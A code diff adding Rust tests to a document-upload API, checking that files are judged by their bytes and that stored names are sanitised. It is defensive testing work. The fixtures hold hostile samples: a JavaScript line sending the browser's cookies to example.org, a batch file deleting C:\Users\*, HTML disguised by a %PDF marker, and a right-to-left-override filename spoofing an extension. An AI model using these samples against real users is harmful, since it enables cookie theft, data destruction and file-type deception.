@@ -1,4 +1,5 @@
-//! Uploads: size limit and allowed types, judged on the bytes, never on the name.
+//! Uploads: size limit and allowed types, judged on the bytes, never on the name, and the name
+//! a file is stored under.
 
 use serde_json::Value;
 
@@ -100,4 +101,54 @@ async fn an_upload_that_is_not_multipart_is_refused() {
     let response =
         api.send(reqwest::Method::POST, MARIE, "document/upload", serde_json::json!({"fichier": "x"})).await;
     assert_refused(response, 415).await;
+}
+
+/// An HTML page of about 40 KB whose comment at byte 80 says `%PDF-1.7`: enough for a reader
+/// that looks for the marker anywhere in the first kilobyte, and a script for a browser.
+fn html_mentioning_pdf() -> Vec<u8> {
+    let mut page =
+        b"<!DOCTYPE html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\"><title>F</title>".to_vec();
+    page.resize(75, b' ');
+    page.extend_from_slice(b"<!-- %PDF-1.7 -->\n<script>document.location='https://example.org/'</script>\n");
+    assert_eq!(page.windows(5).position(|window| window == b"%PDF-"), Some(80));
+    page.resize(40 * 1024, b' ');
+    page.extend_from_slice(b"</head></html>\n");
+    page
+}
+
+#[tokio::test]
+async fn scripts_and_pages_that_merely_mention_pdf_are_refused_with_415() {
+    let api = spawn_api().await;
+    let files: [(&str, Vec<u8>); 4] = [
+        ("facture.html", html_mentioning_pdf()),
+        ("x.js", b"// %PDF-1.4\nfetch('https://example.org/?c=' + document.cookie);\n".to_vec()),
+        ("run.bat", b"@echo off\r\n%PDF-1.4\r\ndel /q C:\\Users\\*\r\n".to_vec()),
+        ("facture\u{202e}lmth.pdf", html_mentioning_pdf()),
+    ];
+    for (name, bytes) in files {
+        let message = assert_refused(api.upload(MARIE, vec![(name, bytes)]).await, 415).await;
+        assert!(message.contains("ni un PDF, ni une image JPEG ou PNG"), "{name}: {message}");
+    }
+}
+
+#[tokio::test]
+async fn a_stored_name_takes_the_extension_of_what_the_bytes_are_and_loses_invisible_characters() {
+    let api = spawn_api().await;
+    let cases = [
+        ("x.html", pdf(), "x.pdf", "application/pdf"),
+        ("facture\u{202e}lmth.pdf", pdf(), "facturelmth.pdf", "application/pdf"),
+        ("re\u{2067}çu\u{200f} été\t.PDF", pdf(), "reçu été.pdf", "application/pdf"),
+        ("scan.pdf", png(), "scan.png", "image/png"),
+        ("Dr. Martin", pdf(), "Dr. Martin.pdf", "application/pdf"),
+    ];
+    for (sent, bytes, stored, type_mime) in cases {
+        let response = api.upload(MARIE, vec![(sent, bytes)]).await;
+        assert_eq!(response.status(), 201, "{sent:?}");
+        let documents: Value = response.json().await.unwrap();
+        assert_eq!(documents[0]["nomFichier"], stored, "{sent:?}");
+        assert_eq!(documents[0]["typeMime"], type_mime, "{sent:?}");
+        let download = api.get(MARIE, &format!("document/pdf/{}", documents[0]["id"])).await;
+        let disposition = header(download.headers(), "content-disposition").to_owned();
+        assert!(!disposition.contains("%E2%80%AE") && !disposition.contains(".html"), "{disposition}");
+    }
 }
